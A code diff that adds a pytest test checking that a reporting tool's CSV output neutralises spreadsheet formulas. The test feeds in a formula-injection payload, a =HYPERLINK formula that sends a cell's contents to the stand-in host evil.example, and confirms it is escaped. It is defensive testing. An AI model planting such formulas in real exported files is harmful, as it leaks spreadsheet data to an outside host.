@@ -166,6 +166,19 @@ def test_the_van_needs_no_plotting_library(db: sqlite_utils.Database, monkeypatc
     assert "matplotlib" in setup["options.extras_require"]["plots"]
 
 
+def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
+    """Issue 13, finding 8: `lfr report --format csv` wrote `=HYPERLINK(...)` cells raw, which a spreadsheet
+    runs as a formula. Text starting with = + - @ is now prefixed with an apostrophe; numbers stay numbers."""
+    db = open_db(tmp_path / "lfr.sqlite3")
+    deployments.start(db, authority='=HYPERLINK("http://evil.example/?"&A1,"open")', officer="O",
+                      location="@SUM(1+1)", threshold=0.6, clock=FakeClock(), actor="test")
+    text = report.render(report.build_report(db, 1), "csv")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not any(c.startswith(("=", "+", "@")) for c in cells), text
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells and "'@SUM(1+1)" in cells
+    assert report.spreadsheet_safe(-3) == -3 and report.spreadsheet_safe("-3") == "'-3"
+
+
 @pytest.mark.slow
 def test_the_html_page_in_a_browser(db: sqlite_utils.Database, tmp_path: Path) -> None:
     """The page as the public sees it (headless Chromium): every section and the chart are drawn; the
